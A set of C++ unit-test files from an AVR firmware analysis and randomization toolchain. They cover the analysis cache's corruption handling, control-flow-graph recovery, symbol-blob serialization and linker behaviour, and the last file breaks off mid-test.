  const AnalysisReport cold =
      analysis::Analyzer(&fresh).analyze(result.image, permuted);
  EXPECT_EQ(analysis::report_text(cold), analysis::report_text(cached));

  // Permutation invariance: everything position-independent is unchanged
  // from the base layout — census, taint population, weights, policy.
  EXPECT_EQ(cached.census.total(), base.census.total());
  EXPECT_EQ(cached.tainted_functions, base.tainted_functions);
  // The weight *multiset* is permutation-invariant but the sum runs in
  // gadget-address order, so across layouts it matches only up to
  // floating-point reassociation (within one layout it is bit-exact).
  EXPECT_NEAR(cached.weighted_total, base.weighted_total, 1e-9);
  EXPECT_EQ(cached.io_bounded, base.io_bounded);
  EXPECT_EQ(cached.ret_bounded, base.ret_bounded);
  ASSERT_EQ(cached.policy.functions.size(), base.policy.functions.size());
  for (std::size_t i = 0; i < base.policy.functions.size(); ++i) {
    const detect::FuncPolicy& a = base.policy.functions[i];
    const detect::FuncPolicy& b = cached.policy.functions[i];
    EXPECT_EQ(a.io_allow, b.io_allow);
    EXPECT_EQ(a.io_unbounded, b.io_unbounded);
    EXPECT_EQ(a.ret_sites, b.ret_sites);
    EXPECT_EQ(a.ret_unbounded, b.ret_unbounded);
  }
}

TEST(AnalysisPolicy, FuncRecordSerializationRoundTrips) {
  // The cache stores FuncRecords serialized; a decode of every function in
  // the image must survive the round trip bit for bit (the property the
  // memoized deserialization path depends on).
  const analysis::FuncIndex index(blob().function_addrs,
                                  blob().function_sizes);
  for (std::size_t i = 0; i < blob().function_addrs.size(); ++i) {
    const std::uint32_t addr = blob().function_addrs[i];
    const std::uint32_t size = blob().function_sizes[i];
    const analysis::FuncRecord rec = analysis::analyze_function(
        std::span(fw().image.bytes).subspan(addr, size), addr, index);
    const support::Bytes wire = rec.serialize();
    const analysis::FuncRecord back = analysis::FuncRecord::deserialize(wire);
    EXPECT_EQ(back.serialize(), wire);
  }
}

}  // namespace
}  // namespace mavr
