// Analysis-cache corruption guard (DESIGN.md §15): the CRC-framed record
// stream must shrug off torn tails, flipped bits, unknown versions and
// trailing scrap — a damaged cache loads its valid prefix and the plane
// recomputes the rest. A cache can make analysis slower, never wrong.
#include <gtest/gtest.h>

#include <cstdint>
#include <filesystem>
#include <fstream>
#include <string>

#include "analysis/cache.hpp"
#include "support/bytes.hpp"
#include "support/crc.hpp"
#include "support/sha256.hpp"

namespace mavr {
namespace {

using analysis::AnalysisCache;

support::Bytes bytes_of(const std::string& s) {
  return support::Bytes(s.begin(), s.end());
}

support::Sha256Digest digest_of(const std::string& s) {
  return support::sha256(bytes_of(s));
}

std::string temp_path(const char* name) {
  return (std::filesystem::path(::testing::TempDir()) / name).string();
}

/// Writes a cache of `n` records keyed "key<i>" → "record-<i>" at `path`
/// (removing any previous file) and returns the file size.
std::uintmax_t write_cache(const std::string& path, int n) {
  std::filesystem::remove(path);
  AnalysisCache cache(path);
  for (int i = 0; i < n; ++i) {
    const std::string key = "key" + std::to_string(i);
    cache.insert(digest_of(key), bytes_of("record-" + std::to_string(i)));
  }
  return std::filesystem::file_size(path);
}

// --- Plain operation ---------------------------------------------------------

TEST(AnalysisCache, InMemoryInsertLookupRoundTrip) {
  AnalysisCache cache;
  EXPECT_EQ(cache.entries(), 0u);
  EXPECT_EQ(cache.lookup(digest_of("missing")), nullptr);
  cache.insert(digest_of("a"), bytes_of("alpha"));
  ASSERT_NE(cache.lookup(digest_of("a")), nullptr);
  EXPECT_EQ(*cache.lookup(digest_of("a")), bytes_of("alpha"));
  EXPECT_EQ(cache.entries(), 1u);
  // Re-inserting the same digest overwrites in place (content-addressed:
  // same key means same payload in practice, but the store must not grow).
  cache.insert(digest_of("a"), bytes_of("alpha2"));
  EXPECT_EQ(cache.entries(), 1u);
  EXPECT_EQ(*cache.lookup(digest_of("a")), bytes_of("alpha2"));
}

TEST(AnalysisCache, FileBackedPersistsAcrossReopen) {
  const std::string path = temp_path("persist.cache");
  write_cache(path, 3);
  AnalysisCache reopened(path);
  EXPECT_EQ(reopened.load_stats().records_loaded, 3u);
  EXPECT_EQ(reopened.load_stats().records_rejected, 0u);
  EXPECT_EQ(reopened.entries(), 3u);
  for (int i = 0; i < 3; ++i) {
    const std::string key = "key" + std::to_string(i);
    const support::Bytes* rec = reopened.lookup(digest_of(key));
    ASSERT_NE(rec, nullptr) << key;
    EXPECT_EQ(*rec, bytes_of("record-" + std::to_string(i)));
  }
}

TEST(AnalysisCache, MissingFileIsEmptyCacheAndInsertsAppend) {
  const std::string path = temp_path("fresh.cache");
  std::filesystem::remove(path);
  {
    AnalysisCache cache(path);
    EXPECT_EQ(cache.entries(), 0u);
    EXPECT_EQ(cache.load_stats().records_loaded, 0u);
    cache.insert(digest_of("x"), bytes_of("xray"));
  }
  AnalysisCache reopened(path);
  EXPECT_EQ(reopened.load_stats().records_loaded, 1u);
  ASSERT_NE(reopened.lookup(digest_of("x")), nullptr);
}

// --- Corruption guard: the truncation replay ---------------------------------

TEST(AnalysisCache, TornTailLoadsValidPrefixAndRecomputes) {
  // Simulate a crash mid-append: chop 3 bytes off the last frame. The
  // length check sees the frame run past EOF, the load stops at the last
  // good frame, and only the torn record is missing.
  const std::string path = temp_path("torn.cache");
  const std::uintmax_t size = write_cache(path, 4);
  std::filesystem::resize_file(path, size - 3);

  AnalysisCache cache(path);
  EXPECT_EQ(cache.load_stats().records_loaded, 3u);
  EXPECT_EQ(cache.load_stats().records_rejected, 1u);
  for (int i = 0; i < 3; ++i) {
    EXPECT_NE(cache.lookup(digest_of("key" + std::to_string(i))), nullptr);
  }
  EXPECT_EQ(cache.lookup(digest_of("key3")), nullptr);  // recompute this one
}

TEST(AnalysisCache, TruncationInsideHeaderDropsOnlyThatFrame) {
  // Tear so deep that only 4 bytes of the second frame's 8-byte header
  // survive: the first frame loads, the stub counts as one torn frame.
  const std::string path = temp_path("torn-header.cache");
  write_cache(path, 2);
  // Both records are "record-<i>" (8 bytes), so every frame is
  // 8 (header) + 1 (version) + 32 (digest) + 8 (record) = 49 bytes.
  std::filesystem::resize_file(path, 49 + 4);

  AnalysisCache cache(path);
  EXPECT_EQ(cache.load_stats().records_loaded, 1u);
  EXPECT_EQ(cache.load_stats().records_rejected, 1u);
  EXPECT_NE(cache.lookup(digest_of("key0")), nullptr);
  EXPECT_EQ(cache.lookup(digest_of("key1")), nullptr);
}

TEST(AnalysisCache, CorruptCrcStopsLoadAtFirstBadFrame) {
  // Flip one payload byte in the *first* frame: its CRC fails and — since
  // frame boundaries downstream of a lie can no longer be trusted — the
  // whole load stops there, even though later frames are intact.
  const std::string path = temp_path("bitrot.cache");
  write_cache(path, 3);
  {
    std::fstream f(path, std::ios::binary | std::ios::in | std::ios::out);
    f.seekg(8 + 10);  // inside the first frame's digest bytes
    char byte = 0;
    f.read(&byte, 1);
    byte ^= 0x55;  // guaranteed different, whatever the digest holds
    f.seekp(8 + 10);
    f.write(&byte, 1);
  }
  AnalysisCache cache(path);
  EXPECT_EQ(cache.load_stats().records_loaded, 0u);
  EXPECT_EQ(cache.load_stats().records_rejected, 1u);
  EXPECT_EQ(cache.entries(), 0u);
}

TEST(AnalysisCache, UnknownVersionByteRejected) {
  // A frame from the future: valid CRC, version byte we do not speak.
  const std::string path = temp_path("version.cache");
  std::filesystem::remove(path);
  {
    support::Bytes payload;
    payload.push_back(0xFF);  // unknown version
    const support::Sha256Digest digest = digest_of("future");
    payload.insert(payload.end(), digest.begin(), digest.end());
    const support::Bytes record = bytes_of("from-the-future");
    payload.insert(payload.end(), record.begin(), record.end());
    const std::uint32_t len = static_cast<std::uint32_t>(payload.size());
    const std::uint32_t crc = support::crc32_ieee(payload);
    std::ofstream f(path, std::ios::binary);
    for (const std::uint32_t v : {len, crc}) {
      for (int b = 0; b < 4; ++b) {
        const char byte = static_cast<char>(v >> (8 * b));
        f.write(&byte, 1);
      }
    }
    f.write(reinterpret_cast<const char*>(payload.data()),
            static_cast<std::streamsize>(payload.size()));
  }
  AnalysisCache cache(path);
  EXPECT_EQ(cache.load_stats().records_loaded, 0u);
  EXPECT_EQ(cache.load_stats().records_rejected, 1u);
}

TEST(AnalysisCache, TrailingScrapCountsAsRejected) {
  // A few stray bytes after the last frame (partial header): every real
  // record loads, the scrap is reported, nothing is invented.
  const std::string path = temp_path("scrap.cache");
  write_cache(path, 2);
  {
    std::ofstream f(path, std::ios::binary | std::ios::app);
    f.write("\x01\x02\x03", 3);
  }
  AnalysisCache cache(path);
  EXPECT_EQ(cache.load_stats().records_loaded, 2u);
  EXPECT_EQ(cache.load_stats().records_rejected, 1u);
}

}  // namespace
}  // namespace mavr
