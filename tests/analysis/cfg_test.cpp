// CFG recovery corner cases (DESIGN.md §15): regions a linear AVR sweep
// can mishandle — a 32-bit instruction straddling the region end, indirect
// branches no static pass can resolve, fall-through into data, and the
// empty region — plus a golden pin of the format_cfg() text the objdump
// tool prints and the analysis plane's reports embed.
#include <gtest/gtest.h>

#include <initializer_list>

#include "analysis/cfg.hpp"
#include "support/bytes.hpp"
#include "toolchain/encode.hpp"

namespace mavr {
namespace {

using analysis::BlockEnd;
using analysis::RegionCfg;
using analysis::build_region_cfg;
using avr::Op;
using namespace mavr::toolchain;

support::Bytes words(std::initializer_list<std::uint16_t> ws) {
  support::Bytes code;
  for (const std::uint16_t w : ws) {
    code.push_back(static_cast<std::uint8_t>(w & 0xFF));
    code.push_back(static_cast<std::uint8_t>(w >> 8));
  }
  return code;
}

// --- Empty region ------------------------------------------------------------

TEST(RegionCfg, EmptyRegionYieldsEmptyCfg) {
  const RegionCfg cfg = build_region_cfg({}, 0x100);
  EXPECT_EQ(cfg.base, 0x100u);
  EXPECT_EQ(cfg.size, 0u);
  EXPECT_TRUE(cfg.blocks.empty());
  EXPECT_TRUE(cfg.calls.empty());
  EXPECT_TRUE(cfg.truncated.empty());
  EXPECT_EQ(cfg.n_edges(), 0u);
  EXPECT_EQ(analysis::format_cfg(cfg),
            "region base=0x100 size=0x0 blocks=0 edges=0 calls=0\n");
}

// --- 32-bit instruction straddling the region end ----------------------------

TEST(RegionCfg, WideInstructionStraddlingEndIsTruncated) {
  // nop; first word of `jmp` with its second word past the end. The open
  // block closes as truncated at the straddling word, which is also
  // recorded in the truncated list.
  const WordPair jmp = enc_abs_jump(Op::Jmp, 0x40);
  const support::Bytes code = words({enc_no_operand(Op::Nop), jmp.first});
  const RegionCfg cfg = build_region_cfg(code, 0);
  ASSERT_EQ(cfg.blocks.size(), 1u);
  EXPECT_EQ(cfg.blocks[0].start, 0u);
  EXPECT_EQ(cfg.blocks[0].end, 2u);
  EXPECT_EQ(cfg.blocks[0].end_kind, BlockEnd::kTruncated);
  EXPECT_TRUE(cfg.blocks[0].succs.empty());
  ASSERT_EQ(cfg.truncated.size(), 1u);
  EXPECT_EQ(cfg.truncated[0], 2u);
  EXPECT_NE(analysis::format_cfg(cfg).find("truncated 0x2"),
            std::string::npos);
}

TEST(RegionCfg, RegionStartingWithStraddlingWordIsNotSilentlyEmpty) {
  // A two-byte region holding only the first word of a `call`: no complete
  // instruction exists, but the CFG still records one (empty) truncated
  // block so a non-empty region never maps to a blockless CFG.
  const WordPair call = enc_abs_jump(Op::Call, 0x40);
  const support::Bytes code = words({call.first});
  const RegionCfg cfg = build_region_cfg(code, 0);
  ASSERT_EQ(cfg.blocks.size(), 1u);
  EXPECT_EQ(cfg.blocks[0].start, 0u);
  EXPECT_EQ(cfg.blocks[0].end, 0u);
  EXPECT_EQ(cfg.blocks[0].n_instrs, 0u);
  EXPECT_EQ(cfg.blocks[0].end_kind, BlockEnd::kTruncated);
  ASSERT_EQ(cfg.truncated.size(), 1u);
  EXPECT_EQ(cfg.truncated[0], 0u);
}

// --- Unresolvable indirect branches ------------------------------------------

TEST(RegionCfg, IndirectJumpEndsBlockWithNoSuccessors) {
  // ldi r30, 0x10 ; ijmp — the target lives in Z at runtime, so the block
  // ends with no intra-region edges and the site lands in indirect_jumps
  // for the analysis plane to resolve (or not) from pointer slots.
  const support::Bytes code =
      words({enc_imm(Op::Ldi, 30, 0x10), enc_no_operand(Op::Ijmp)});
  const RegionCfg cfg = build_region_cfg(code, 0);
  ASSERT_EQ(cfg.blocks.size(), 1u);
  EXPECT_EQ(cfg.blocks[0].end_kind, BlockEnd::kIndirectJump);
  EXPECT_TRUE(cfg.blocks[0].succs.empty());
  EXPECT_EQ(cfg.n_edges(), 0u);
  ASSERT_EQ(cfg.indirect_jumps.size(), 1u);
  EXPECT_EQ(cfg.indirect_jumps[0], 2u);
  EXPECT_NE(analysis::format_cfg(cfg).find("ijmp 0x2"), std::string::npos);
}

TEST(RegionCfg, IndirectCallRecordedAsUnresolved) {
  // icall ; ret — the call site is kept (return-edge analysis needs its
  // ret_offset) but carries target -1: unresolvable from the code alone.
  const support::Bytes code =
      words({enc_no_operand(Op::Icall), enc_no_operand(Op::Ret)});
  const RegionCfg cfg = build_region_cfg(code, 0);
  ASSERT_EQ(cfg.calls.size(), 1u);
  EXPECT_EQ(cfg.calls[0].offset, 0u);
  EXPECT_EQ(cfg.calls[0].ret_offset, 2u);
  EXPECT_TRUE(cfg.calls[0].indirect);
  EXPECT_EQ(cfg.calls[0].target, -1);
  ASSERT_EQ(cfg.blocks.size(), 1u);
  EXPECT_EQ(cfg.blocks[0].end_kind, BlockEnd::kRet);
  EXPECT_NE(analysis::format_cfg(cfg).find("call 0x0 indirect"),
            std::string::npos);
}

// --- Fall-through into data --------------------------------------------------

TEST(RegionCfg, FallThroughIntoDataIsFallsOffEnd) {
  // Two nops and no terminator: execution runs off the region end into
  // whatever bytes follow — the open-ended shape that makes a function
  // record policy-unusable (FuncRecord::open_ended).
  const support::Bytes code =
      words({enc_no_operand(Op::Nop), enc_no_operand(Op::Nop)});
  const RegionCfg cfg = build_region_cfg(code, 0);
  ASSERT_EQ(cfg.blocks.size(), 1u);
  EXPECT_EQ(cfg.blocks[0].end, 4u);
  EXPECT_EQ(cfg.blocks[0].n_instrs, 2u);
  EXPECT_EQ(cfg.blocks[0].end_kind, BlockEnd::kFallsOffEnd);
  EXPECT_TRUE(cfg.blocks[0].succs.empty());
  EXPECT_NE(analysis::format_cfg(cfg).find("end=falls-off"),
            std::string::npos);
}

// --- Branch/skip structure ---------------------------------------------------

TEST(RegionCfg, BranchSplitsBlocksWithBothEdges) {
  // brne +1 (over the nop) ; nop ; ret — three blocks: the branch with a
  // taken edge and a fall-through edge, the nop falling into the ret, and
  // the ret itself.
  const support::Bytes code = words({enc_branch(Op::Brbc, 1, 1),
                                     enc_no_operand(Op::Nop),
                                     enc_no_operand(Op::Ret)});
  const RegionCfg cfg = build_region_cfg(code, 0);
  ASSERT_EQ(cfg.blocks.size(), 3u);
  EXPECT_EQ(cfg.blocks[0].end_kind, BlockEnd::kBranch);
  EXPECT_EQ(cfg.blocks[0].succs, (std::vector<std::uint32_t>{2, 4}));
  EXPECT_EQ(cfg.blocks[1].end_kind, BlockEnd::kFallThrough);
  EXPECT_EQ(cfg.blocks[1].succs, (std::vector<std::uint32_t>{4}));
  EXPECT_EQ(cfg.blocks[2].end_kind, BlockEnd::kRet);
  EXPECT_EQ(cfg.n_edges(), 3u);
}

TEST(RegionCfg, SkipDistanceFollowsNextInstructionWidth) {
  // sbrs r0,0 skips the *next instruction*, whose width varies: here a
  // 32-bit sts, so the skip edge lands 4 bytes past it, not 2.
  const WordPair sts = enc_sts(0x0200, 1);
  const support::Bytes code = words({enc_skip_reg(Op::Sbrs, 0, 0), sts.first,
                                     sts.second, enc_no_operand(Op::Ret)});
  const RegionCfg cfg = build_region_cfg(code, 0);
  ASSERT_EQ(cfg.blocks.size(), 3u);
  EXPECT_EQ(cfg.blocks[0].end_kind, BlockEnd::kSkip);
  EXPECT_EQ(cfg.blocks[0].succs, (std::vector<std::uint32_t>{2, 6}));
}

// --- Jumps leaving the region ------------------------------------------------

TEST(RegionCfg, JumpBelowBaseIsJumpOutWithAbsoluteTarget) {
  // rjmp -3 words from offset 0 at base 0x100: absolute target 0xFC, below
  // the region — recorded as a jump-out, not an intra-region edge.
  const support::Bytes code =
      words({enc_rel_jump(Op::Rjmp, -3), enc_no_operand(Op::Ret)});
  const RegionCfg cfg = build_region_cfg(code, 0x100);
  ASSERT_EQ(cfg.jumps_out.size(), 1u);
  EXPECT_EQ(cfg.jumps_out[0].offset, 0u);
  EXPECT_EQ(cfg.jumps_out[0].target, 0xFC);
  EXPECT_EQ(cfg.blocks[0].end_kind, BlockEnd::kJump);
  EXPECT_TRUE(cfg.blocks[0].succs.empty());
}

TEST(RegionCfg, JumpBelowAddressZeroKeepsSignedTarget) {
  const support::Bytes code = words({enc_rel_jump(Op::Rjmp, -3)});
  const RegionCfg cfg = build_region_cfg(code, 0);
  ASSERT_EQ(cfg.jumps_out.size(), 1u);
  EXPECT_EQ(cfg.jumps_out[0].target, -4);
  EXPECT_NE(analysis::format_cfg(cfg).find("jump-out 0x0 -> -0x4"),
            std::string::npos);
}

TEST(RegionCfg, JumpIntoMidInstructionIsJumpOut) {
  // rjmp +1 targets offset 4 — the *second word* of the 32-bit lds at
  // [2, 6). Not an instruction boundary, so it is a jump into data even
  // though the byte offset is inside the region.
  const WordPair lds = enc_lds(16, 0x0200);
  const support::Bytes code = words({enc_rel_jump(Op::Rjmp, 1), lds.first,
                                     lds.second, enc_no_operand(Op::Ret)});
  const RegionCfg cfg = build_region_cfg(code, 0);
  ASSERT_EQ(cfg.jumps_out.size(), 1u);
  EXPECT_EQ(cfg.jumps_out[0].offset, 0u);
  EXPECT_EQ(cfg.jumps_out[0].target, 4);
  EXPECT_EQ(cfg.n_edges(), 0u);
}

// --- Golden format pin -------------------------------------------------------

TEST(RegionCfg, FormatIsStableAcrossRuns) {
  // Full-text pin of a small function: rcall +1 ; ret ; nop ; ret. The
  // exact rendering is what mavr-objdump --cfg prints; drift here breaks
  // golden files downstream.
  const support::Bytes code =
      words({enc_rel_jump(Op::Rcall, 1), enc_no_operand(Op::Ret),
             enc_no_operand(Op::Nop), enc_no_operand(Op::Ret)});
  const RegionCfg cfg = build_region_cfg(code, 0x200);
  EXPECT_EQ(analysis::format_cfg(cfg),
            "region base=0x200 size=0x8 blocks=2 edges=0 calls=1\n"
            "block 0x0..0x4 instrs=2 end=ret\n"
            "block 0x4..0x8 instrs=2 end=ret\n"
            "call 0x0 -> 0x204\n");
}

}  // namespace
}  // namespace mavr
