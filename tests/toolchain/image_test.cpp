// Image metadata and the preprocessed symbol blob (the information the
// paper's preprocessing stage prepends to the HEX file, §VI-B2).
#include <gtest/gtest.h>

#include "avr/decode.hpp"
#include "toolchain/assembler.hpp"
#include "toolchain/disasm.hpp"
#include "toolchain/image.hpp"
#include "toolchain/linker.hpp"

namespace mavr::toolchain {
namespace {

Image sample_image() {
  FunctionBuilder a("alpha");
  a.nop();
  a.ret();
  FunctionBuilder b("beta");
  b.ret();
  FunctionBuilder main_fn("main");
  main_fn.call("alpha");
  main_fn.call("beta");
  main_fn.ret();
  DataBuilder data;
  data.code_ptr_table("g_tbl", {CodeRef{"alpha", 0}, CodeRef{"beta", 0}});
  LinkInput in;
  in.functions.push_back(main_fn.take());
  in.functions.push_back(a.take());
  in.functions.push_back(b.take());
  in.data = data.take();
  return link(std::move(in));
}

TEST(Image, FunctionContainingBinarySearch) {
  const Image image = sample_image();
  const Symbol* alpha = image.find("alpha");
  ASSERT_NE(alpha, nullptr);
  EXPECT_EQ(image.function_containing(alpha->addr), alpha);
  EXPECT_EQ(image.function_containing(alpha->addr + 2)->name, "alpha");
  EXPECT_EQ(image.function_containing(alpha->addr + alpha->size)->name,
            "beta");
  // Address 0 is inside the vector table (an Object, not a function).
  EXPECT_EQ(image.function_containing(0), nullptr);
  EXPECT_EQ(image.function_containing(image.text_end + 1), nullptr);
}

TEST(Image, WordAccessors) {
  Image image = sample_image();
  const std::uint16_t before = image.word_at(0);
  image.set_word_at(0, 0x1234);
  EXPECT_EQ(image.word_at(0), 0x1234);
  image.set_word_at(0, before);
  EXPECT_EQ(image.word_at(0), before);
}

TEST(SymbolBlob, SerializeDeserializeRoundTrip) {
  const Image image = sample_image();
  const SymbolBlob blob = SymbolBlob::from_image(image);
  const SymbolBlob back = SymbolBlob::deserialize(blob.serialize());
  EXPECT_EQ(back.function_addrs, blob.function_addrs);
  EXPECT_EQ(back.function_sizes, blob.function_sizes);
  EXPECT_EQ(back.text_end, blob.text_end);
  EXPECT_EQ(back.first_movable, blob.first_movable);
  EXPECT_EQ(back.has_ldi_code_pointers, blob.has_ldi_code_pointers);
  ASSERT_EQ(back.pointer_slots.size(), blob.pointer_slots.size());
  for (std::size_t i = 0; i < blob.pointer_slots.size(); ++i) {
    EXPECT_EQ(back.pointer_slots[i].image_offset,
              blob.pointer_slots[i].image_offset);
    EXPECT_EQ(back.pointer_slots[i].width, blob.pointer_slots[i].width);
  }
}

TEST(SymbolBlob, AddressesAscendAndTile) {
  const Image image = sample_image();
  const SymbolBlob blob = SymbolBlob::from_image(image);
  for (std::size_t i = 1; i < blob.function_addrs.size(); ++i) {
    EXPECT_GT(blob.function_addrs[i], blob.function_addrs[i - 1]);
  }
  EXPECT_GT(blob.first_movable, 0u);  // vectors pinned below
}

TEST(SymbolBlob, CorruptionDetected) {
  const Image image = sample_image();
  support::Bytes wire = SymbolBlob::from_image(image).serialize();
  wire[6] ^= 0x01;
  EXPECT_THROW(SymbolBlob::deserialize(wire), support::DataError);
  support::Bytes truncated(wire.begin(), wire.begin() + 10);
  EXPECT_THROW(SymbolBlob::deserialize(truncated), support::DataError);
}

TEST(Disasm, ListingFormat) {
  const Image image = sample_image();
  const Symbol* main_sym = image.find("main");
  const auto lines = disassemble(
      std::span(image.bytes).subspan(main_sym->addr, main_sym->size),
      main_sym->addr);
  ASSERT_GE(lines.size(), 3u);  // call, call, ret
  EXPECT_EQ(lines[0].instr.op, avr::Op::Call);
  EXPECT_NE(lines[0].text.find("call"), std::string::npos);
  EXPECT_EQ(lines.back().instr.op, avr::Op::Ret);
  const std::string listing = format_listing(lines);
  EXPECT_NE(listing.find("ret"), std::string::npos);
}

TEST(Disasm, PaperStyleOperands) {
  using namespace mavr::toolchain;
  EXPECT_EQ(format_instr(avr::decode(enc_out(0x3e, 29), 0), 0),
            "out 0x3e, r29");
  EXPECT_EQ(format_instr(avr::decode(enc_std(true, 1, 5), 0), 0),
            "std Y+1, r5");
  EXPECT_EQ(format_instr(avr::decode(enc_pop(29), 0), 0), "pop r29");
}

TEST(Assembler, FixedOffsetOfRequiresFixedPrefix) {
  FunctionBuilder fn("f");
  fn.nop();
  Label l1 = fn.make_label();
  fn.bind(l1);
  fn.ret();
  EXPECT_EQ(fn.fixed_offset_of(l1), 1u);

  FunctionBuilder g("g");
  g.call("anything");  // relaxable -> offset not fixed
  Label l2 = g.make_label();
  g.bind(l2);
  EXPECT_THROW(g.fixed_offset_of(l2), support::PreconditionError);

  FunctionBuilder h("h");
  Label unbound = h.make_label();
  EXPECT_THROW(h.fixed_offset_of(unbound), support::PreconditionError);
}

}  // namespace
}  // namespace mavr::toolchain
