// Linker behaviour: layout, startup synthesis, relocation resolution,
// relaxation, call-prologue consolidation, alignment and error paths.
// Linked programs are validated by *executing* them on the simulator.
#include <gtest/gtest.h>

#include "avr/cpu.hpp"
#include "toolchain/assembler.hpp"
#include "toolchain/linker.hpp"

namespace mavr {
namespace {

using namespace mavr::toolchain;
using avr::Op;

/// Runs an image on a fresh core until BREAK/fault or the cycle budget.
avr::Cpu run_image(const Image& image, std::uint64_t cycles = 200'000) {
  avr::Cpu cpu(avr::atmega2560());
  cpu.flash().program(image.bytes);
  cpu.reset();
  cpu.run(cycles);
  return cpu;
}

LinkInput minimal_input(std::vector<AsmFunction> fns,
                        ToolchainOptions options = {}) {
  LinkInput in;
  in.functions = std::move(fns);
  in.options = options;
  return in;
}

TEST(Linker, MinimalProgramRunsToBreak) {
  FunctionBuilder main_fn("main");
  main_fn.ldi(24, 0x5A);
  main_fn.sts_sym("g_out", 24);
  main_fn.ret();
  DataBuilder data;
  data.reserve("g_out", 2);

  LinkInput in = minimal_input({});
  in.functions.push_back(main_fn.take());
  in.data = data.take();
  const Image image = link(std::move(in));

  const avr::Cpu cpu = run_image(image);
  EXPECT_EQ(cpu.state(), avr::CpuState::Stopped);  // __init's final break
  EXPECT_EQ(cpu.data().raw(image.find_data("g_out")->ram_addr), 0x5A);
}

TEST(Linker, VectorTableIsPinnedAtZero) {
  FunctionBuilder main_fn("main");
  main_fn.ret();
  const Image image = link(minimal_input([&] {
    std::vector<AsmFunction> v;
    v.push_back(main_fn.take());
    return v;
  }()));
  const Symbol* vectors = image.find("__vectors");
  ASSERT_NE(vectors, nullptr);
  EXPECT_EQ(vectors->addr, 0u);
  EXPECT_EQ(vectors->size, kVectorSlots * 4);
  EXPECT_FALSE(vectors->movable);
  EXPECT_EQ(vectors->kind, Symbol::Kind::Object);
  // Reset vector: a JMP whose target is __init.
  const avr::Instr reset = avr::decode(image.word_at(0), image.word_at(2));
  EXPECT_EQ(reset.op, Op::Jmp);
  EXPECT_EQ(static_cast<std::uint32_t>(reset.target) * 2,
            image.find("__init")->addr);
}

TEST(Linker, DataInitializersCopiedToRam) {
  FunctionBuilder main_fn("main");
  main_fn.lds_sym(24, "g_config", 2);
  main_fn.sts_sym("g_result", 24);
  main_fn.ret();
  DataBuilder data;
  data.global("g_config", {0x11, 0x22, 0x33, 0x44});
  data.reserve("g_result", 2);

  LinkInput in = minimal_input({});
  in.functions.push_back(main_fn.take());
  in.data = data.take();
  const Image image = link(std::move(in));

  const avr::Cpu cpu = run_image(image);
  EXPECT_EQ(cpu.state(), avr::CpuState::Stopped);
  // Startup copied .data, then main read g_config[2].
  const DataSymbol* cfg = image.find_data("g_config");
  EXPECT_EQ(cpu.data().raw(cfg->ram_addr + 0), 0x11);
  EXPECT_EQ(cpu.data().raw(cfg->ram_addr + 3), 0x44);
  EXPECT_EQ(cpu.data().raw(image.find_data("g_result")->ram_addr), 0x33);
}

TEST(Linker, CodePointerTableResolvesAndRuns) {
  FunctionBuilder handler("handler");
  handler.ldi(24, 0x99);
  handler.sts_sym("g_flag", 24);
  handler.ret();
  FunctionBuilder main_fn("main");
  // EICALL through the table.
  main_fn.lds_sym(30, "g_table", 0);
  main_fn.lds_sym(31, "g_table", 1);
  main_fn.lds_sym(24, "g_table", 2);
  main_fn.out(avr::kIoEind, 24);
  main_fn.eicall();
  main_fn.ret();
  DataBuilder data;
  data.code_ptr_table("g_table", {CodeRef{"handler", 0}});
  data.reserve("g_flag", 2);

  LinkInput in = minimal_input({});
  in.functions.push_back(main_fn.take());
  in.functions.push_back(handler.take());
  in.data = data.take();
  const Image image = link(std::move(in));
  ASSERT_EQ(image.pointer_slots.size(), 1u);
  EXPECT_EQ(image.pointer_slots[0].width, 3);

  const avr::Cpu cpu = run_image(image);
  EXPECT_EQ(cpu.state(), avr::CpuState::Stopped);
  EXPECT_EQ(cpu.data().raw(image.find_data("g_flag")->ram_addr), 0x99);
}

TEST(Linker, PrologueEpilogueFrameDiscipline) {
  FunctionBuilder fn("framed");
  fn.prologue({16, 28, 29}, 10);
  fn.ldi(24, 0x42);
  fn.std_y(1, 24);
  fn.ldd_y(25, 1);
  fn.sts_sym("g_out", 25);
  fn.epilogue({16, 28, 29}, 10);
  FunctionBuilder main_fn("main");
  main_fn.ldi(16, 0x77);  // callee must preserve this
  main_fn.call("framed");
  main_fn.sts_sym("g_r16", 16);
  main_fn.ret();
  DataBuilder data;
  data.reserve("g_out", 2);
  data.reserve("g_r16", 2);

  LinkInput in = minimal_input({});
  in.functions.push_back(main_fn.take());
  in.functions.push_back(fn.take());
  in.data = data.take();
  const Image image = link(std::move(in));
  const avr::Cpu cpu = run_image(image);
  EXPECT_EQ(cpu.state(), avr::CpuState::Stopped);
  EXPECT_EQ(cpu.data().raw(image.find_data("g_out")->ram_addr), 0x42);
  EXPECT_EQ(cpu.data().raw(image.find_data("g_r16")->ram_addr), 0x77);
  EXPECT_EQ(cpu.sp(), 0x21FF);  // stack fully unwound back in __init
}

TEST(Linker, LargeFrameUsesSubiSbci) {
  FunctionBuilder fn("bigframe");
  fn.prologue({28, 29}, 200);
  fn.ldi(24, 0x01);
  fn.std_y(63, 24);
  fn.epilogue({28, 29}, 200);
  FunctionBuilder main_fn("main");
  main_fn.call("bigframe");
  main_fn.ret();

  LinkInput in = minimal_input({});
  in.functions.push_back(main_fn.take());
  in.functions.push_back(fn.take());
  const Image image = link(std::move(in));
  const avr::Cpu cpu = run_image(image);
  EXPECT_EQ(cpu.state(), avr::CpuState::Stopped);
}

TEST(Linker, RelaxationShrinksNearCalls) {
  auto build = [](bool relax) {
    FunctionBuilder callee("callee");
    callee.ret();
    FunctionBuilder main_fn("main");
    for (int i = 0; i < 10; ++i) main_fn.call("callee");
    main_fn.ret();
    LinkInput in;
    in.options.relax = relax;
    in.functions.push_back(main_fn.take());
    in.functions.push_back(callee.take());
    return link(std::move(in));
  };
  const Image relaxed = build(true);
  const Image fixed = build(false);
  // 10 near calls in main plus __init's `call main` shrink by 2 bytes each.
  EXPECT_EQ(fixed.size_bytes(), relaxed.size_bytes() + 22);
  // Both must still run correctly.
  EXPECT_EQ(run_image(relaxed).state(), avr::CpuState::Stopped);
  EXPECT_EQ(run_image(fixed).state(), avr::CpuState::Stopped);
}

TEST(Linker, NoRelaxKeepsAllCallsLong) {
  FunctionBuilder callee("callee");
  callee.ret();
  FunctionBuilder main_fn("main");
  main_fn.call("callee");
  main_fn.ret();
  LinkInput in;
  in.options.relax = false;
  in.functions.push_back(main_fn.take());
  in.functions.push_back(callee.take());
  const Image image = link(std::move(in));
  // Scan main's body: the call must be the 2-word CALL form.
  const Symbol* main_sym = image.find("main");
